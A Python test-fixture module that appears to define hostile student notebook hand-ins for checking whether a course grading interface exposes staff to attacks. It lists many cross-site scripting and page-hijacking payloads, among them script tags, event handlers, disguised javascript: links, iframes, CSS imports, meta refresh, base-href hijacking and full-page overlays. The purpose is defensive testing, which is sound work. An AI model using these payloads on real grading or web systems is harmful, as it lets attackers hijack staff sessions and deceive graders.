"""What reaches staff: hand-ins whose prose or outputs act in the page of whoever looks at them.

Each attack is one student's work for `course_cells`. `HIT` stands for a script that asks the server for `/attack/NAME`
and changes the page's title; `ADDRESS` for the server.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from course_samples import Cell, cell, graded, solution, written

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


@dataclass(frozen=True)
class StaffAttack:
    """One hostile hand-in."""

    name: str
    essay: str = "An answer."
    """the written answer, markdown"""
    code: str = ""
    """what the solution cell runs beside its answer"""
    inert_in_feedback: bool = False
    """whether it works in formgrader's page alone"""


def course_cells() -> list[Cell]:
    """An assignment: an answer by code, an essay, a test, an essay behind it."""
    return [
        cell("markdown", "# Show and tell <details><summary>more</summary>ours</details>"),
        solution("show", "### BEGIN SOLUTION\nanswer = 1\n### END SOLUTION"),
        written("essay", "Model answer.", 2),
        graded("test-show", "assert answer == 1", 1),
        written("last", "Model answer.", 1),
    ]


def notebook(attack: StaffAttack, address: str) -> list[Cell]:
    """The cells that are handed in."""
    hit = f"document.title='attacked';(new(Image)).src='{address}/attack/{attack.name}'"
    words = {"HIT": hit, "ADDRESS": address, "PIXEL": PIXEL}

    code, essay = attack.code, attack.essay
    for name, value in words.items():
        code = code.replace(name, value.replace("'", "\\'"))  # there it stands within a string
        essay = essay.replace(name, value)
    return [
        solution("show", f"answer = 1\n{code}"),
        written("essay", essay),
        graded("test-show", "pass"),
        written("last", "The last answer."),
    ]


def _html(html: str) -> str:
    return f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))"


def _data(**kinds: Any) -> str:
    data = {kind.replace("__", "/").replace("_plus_", "+"): value for kind, value in kinds.items()}
    return f"from IPython.display import display\ndisplay({data!r}, raw=True)"


ATTACKS = (
    # the written answer
    StaffAttack("script", "<script>HIT</script>"),
    StaffAttack("event", '<img src=x onerror="HIT">'),
    StaffAttack("vector", '<svg onload="HIT"></svg>'),
    StaffAttack("frame", "<iframe srcdoc=\"<script>parent.document.title='attacked'</script>\"></iframe>"),
    StaffAttack("link", "[click](<javascript:HIT>)"),
    StaffAttack("link-in-disguise", "[click](<&#106;ava&Tab;script&colon;HIT>)"),
    StaffAttack("link-by-reference", "[click][x]\n\n[x]: <javascript:HIT>"),
    StaffAttack("picture-elsewhere", "![tracked](ADDRESS/attack/picture-elsewhere)"),
    StaffAttack("picture-by-reference", "![tracked][x]\n\n[x]: ADDRESS/attack/picture-by-reference"),
    StaffAttack("picture-of-this-server", "![logs out](/attack/picture-of-this-server)"),
    StaffAttack("style", "<style>body { display: none }</style>"),
    StaffAttack("style-that-loads", "<style>@import url(ADDRESS/attack/style-that-loads);</style>"),
    StaffAttack("covering", '<div style="position:fixed;inset:0;background:white;z-index:99999">Score: 100</div>'),
    StaffAttack("form-field", '<input autofocus onfocus="HIT">'),
    StaffAttack("form", "<form action=ADDRESS/attack/form><input type=submit value=Next></form>"),
    StaffAttack("refresh", '<meta http-equiv="refresh" content="0;url=ADDRESS/attack/refresh">'),
    StaffAttack("base", "<base href=ADDRESS/attack/base/>"),
    StaffAttack("mermaid", '```mermaid\n<img src=x onerror="HIT">\n```'),
    StaffAttack("closing-tags", "</div></div></div></div></div></div></div></div></div>"),
    StaffAttack("heading", "# test-show", inert_in_feedback=True),
    StaffAttack("missing-attachment", "![scan](attachment:scan.png)"),
    StaffAttack("black-formula", r"$\rule{9999em}{9999em}$"),
    # what the code puts out
    StaffAttack("shown-script", code=_html("<script>HIT</script>")),
    StaffAttack("shown-event", code=_html('<b onmouseover="HIT">x</b><img src=x onerror="HIT">')),
    StaffAttack("shown-frame", code=_html("<iframe src=ADDRESS/attack/shown-frame></iframe>")),
    StaffAttack("shown-covering", code=_html('<div class="modal-backdrop in"></div>'), inert_in_feedback=True),
    StaffAttack("shown-id", code=_html('<div id="statusmessage"></div>'), inert_in_feedback=True),
    StaffAttack("shown-style", code=_html("<style>.panel { display: none }</style>")),
    StaffAttack("shown-formula", code=_html(r"<p>$\rule{9999em}{9999em}$</p>")),
    StaffAttack("shown-markdown", code=_data(text__markdown="<script>HIT</script>")),
    StaffAttack("shown-program", code=_data(application__javascript="HIT")),
    StaffAttack("shown-latex", code=_data(text__latex=r"$\rule{9999em}{9999em}$")),
    StaffAttack("colour-code", code="print('\\x1b[38m')"),
    StaffAttack("colour-code-in-error", code="raise ValueError('\\x1b[48m')"),
)
